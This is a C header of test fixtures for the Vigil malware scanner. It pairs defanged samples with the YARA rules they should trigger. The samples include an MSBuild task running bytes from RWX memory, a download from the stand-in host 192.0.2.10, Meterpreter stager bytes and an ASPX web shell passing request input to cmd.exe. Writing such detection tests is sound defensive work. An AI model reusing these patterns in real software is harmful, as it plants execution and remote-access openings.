/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_files_fixtures.h - benign files that carry the patterns Vigil's own
 * YARA rules (rules/yara/) look for, each with the exact set of Vigil rules
 * it must match (positive) or an empty set (negative). Nothing here is
 * working malware: shellcode prologues are a few bytes inside filler, the
 * MSBuild projects' C# does nothing harmful, the web shell is never served.
 * Used by test_yara.c (rules alone) and test_files.c (the whole scanner);
 * the trees are written by the tests at run time.
 */
#ifndef TEST_FILES_FIXTURES_H
#define TEST_FILES_FIXTURES_H

#include <stddef.h>
#include <stdint.h>

struct fixture {
    const char *path; /* relative to the tree root */
    const char *data;
    size_t len;         /* 0 = strlen(data) */
    const char *expect; /* sorted, comma-separated Vigil rule names, "" */
};

#define MSBUILD_HEAD                                                           \
    "<Project ToolsVersion=\"4.0\" "                                           \
    "xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\n"         \
    "  <Target Name=\"Hello\"><ClassExample /></Target>\n"                     \
    "  <UsingTask TaskName=\"ClassExample\" TaskFactory=\"CodeTaskFactory\" "  \
    "AssemblyFile=\"C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\"       \
    "Microsoft.Build.Tasks.v4.0.dll\">\n"                                      \
    "    <Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[\n"               \
    "using System; using System.Runtime.InteropServices;\n"                    \
    "using Microsoft.Build.Framework; using Microsoft.Build.Utilities;\n"      \
    "public class ClassExample : Task, ITask {\n"

#define MSBUILD_TAIL "}\n]]></Code></Task></UsingTask>\n</Project>\n"

/* test.xml shape: allocate RWX memory and start a thread on it (the
 * "payload" is NOP NOP RET). */
static const char fx_msbuild_exec[] = MSBUILD_HEAD
    "  [DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a,"
    " uint s, uint t, uint p);\n"
    "  [DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a,"
    " uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n"
    "  public override bool Execute() {\n"
    "    byte[] buf = new byte[] { 0x90, 0x90, 0xc3 };\n"
    "    IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)buf.Length, 0x3000, "
    "0x40);\n"
    "    Marshal.Copy(buf, 0, m, buf.Length);\n"
    "    CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero);\n"
    "    return true; }\n" MSBUILD_TAIL;

static const char fx_msbuild_load[] = MSBUILD_HEAD
    "  public override bool Execute() {\n"
    "    byte[] b = Convert.FromBase64String(\"TVqQAAMAAAAEAAAA\");\n"
    "    System.Reflection.Assembly.Load(b);\n"
    "    return true; }\n" MSBUILD_TAIL;

static const char fx_msbuild_download[] = MSBUILD_HEAD
    "  public override bool Execute() {\n"
    "    var d = new WebClient().DownloadData(\"http://192.0.2.10/a.bin\");\n"
    "    return d.Length > 0; }\n" MSBUILD_TAIL;

/* A legitimate inline task: string work only. */
static const char fx_msbuild_benign[] =
    MSBUILD_HEAD "  public string Name { get; set; }\n"
                 "  public override bool Execute() {\n"
                 "    Log.LogMessage(\"Hello \" + Name.ToUpperInvariant());\n"
                 "    return true; }\n" MSBUILD_TAIL;

/* The same Win32 calls in plain C#, not an MSBuild project. */
static const char fx_cs_not_msbuild[] =
    "using System; using System.Runtime.InteropServices;\n"
    "class Native { [DllImport(\"kernel32\")] static extern IntPtr "
    "VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n"
    "[DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, "
    "uint s, IntPtr f, IntPtr p, uint c, IntPtr i); }\n";

/* C# byte-array literal starting like the x64 block_api stager. */
static const char fx_stager_array[] =
    "// loader stub\nbyte[] buf = new byte[6] {0xfc,0x48,0x83,0xe4,0xf0,"
    "0xe8};\n";

/* A byte array that is not a stager. */
static const char fx_array_benign[] =
    "byte[] key = new byte[6] {0xfc,0x48,0x83,0xe4,0x00,0x01};\n";

/* Raw x64 prologue + mov r10d, ror13("LoadLibraryA") inside filler. */
static const char fx_stager_raw[] =
    "\x00\x11\x22\x33"
    "\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52\x51\x56"
    "\x48\x31\xd2\x65\x48\x8b\x52\x60"
    "\x90\x90\x90\x41\xba\x4c\x77\x26\x07\x90\x90";
#define FX_STAGER_RAW_LEN (sizeof(fx_stager_raw) - 1)

/* The prologue alone, no API hash: not enough. */
static const char fx_prologue_only[] =
    "\x00\x11\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51\x41\x50\x52"
    "\x51\x56\x48\x31\xd2\x65\x48\x8b\x52\x60\x90";
#define FX_PROLOGUE_ONLY_LEN (sizeof(fx_prologue_only) - 1)

/* "MZ" header, export name and Meterpreter's server DLL name. */
static const char fx_reflective[] =
    "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    "........ReflectiveLoader\x00........metsrv.x64.dll\x00";
#define FX_REFLECTIVE_LEN (sizeof(fx_reflective) - 1)

/* A generic reflective DLL (not Meterpreter). */
static const char fx_reflective_generic[] =
    "MZ\x90\x00\x03\x00\x00\x00........ReflectiveLoader\x00plugin.dll\x00";
#define FX_REFLECTIVE_GENERIC_LEN (sizeof(fx_reflective_generic) - 1)

/* A text about Meterpreter: the names, but not a PE. */
static const char fx_meterpreter_text[] =
    "Notes: metsrv exports ReflectiveLoader; see core_channel_open.\n";

static const char fx_webshell[] =
    "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" "
    "%>\n"
    "<script runat=\"server\">void Page_Load(object s, EventArgs e) {\n"
    "  var p = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]);\n"
    "  /* benign fixture: never served */ }\n</script>\n";

static const char fx_extension_page[] =
    "<%@ Page Language=\"C#\" %>\n<html><body>Extension settings</body>"
    "</html>\n";

static const struct fixture fixtures[] = {
    {"tasks/test.xml", fx_msbuild_exec, 0,
     "VIGIL_MSBuild_InlineTask_Memory_Exec"},
    {"tasks/load.csproj", fx_msbuild_load, 0,
     "VIGIL_MSBuild_InlineTask_Assembly_Load"},
    {"tasks/fetch.xml", fx_msbuild_download, 0,
     "VIGIL_MSBuild_InlineTask_Download"},
    {"tasks/hello.xml", fx_msbuild_benign, 0, ""},
    {"src/Native.cs", fx_cs_not_msbuild, 0, ""},
    {"src/loader.cs", fx_stager_array, 0, "VIGIL_Meterpreter_Stager_ByteArray"},
    {"src/key.cs", fx_array_benign, 0, ""},
    {"bin/stage.bin", fx_stager_raw, FX_STAGER_RAW_LEN,
     "VIGIL_Meterpreter_Stager_Shellcode"},
    {"bin/prologue.bin", fx_prologue_only, FX_PROLOGUE_ONLY_LEN, ""},
    {"bin/ext.dll", fx_reflective, FX_REFLECTIVE_LEN,
     "VIGIL_Meterpreter_Reflective_DLL"},
    {"bin/plugin.dll", fx_reflective_generic, FX_REFLECTIVE_GENERIC_LEN, ""},
    {"doc/notes.txt", fx_meterpreter_text, 0, ""},
    {"ScreenConnect/App_Extensions/shell.aspx", fx_webshell, 0,
     "VIGIL_ScreenConnect_AppExtensions_Root_Handler,"
     "VIGIL_ScreenConnect_AppExtensions_WebShell"},
    {"ScreenConnect/App_Extensions/2d558935-a2d0-4e5c-9cd4-6a1b7c5d1e2f/"
     "Settings.aspx",
     fx_extension_page, 0, ""},
    {"ScreenConnect/App_Extensions/readme.txt", fx_webshell, 0,
     "VIGIL_ScreenConnect_AppExtensions_WebShell"},
    {"www/shell.aspx", fx_webshell, 0, ""},
    {"www/index.html", "<html>hello</html>\n", 0, ""},
};

#endif
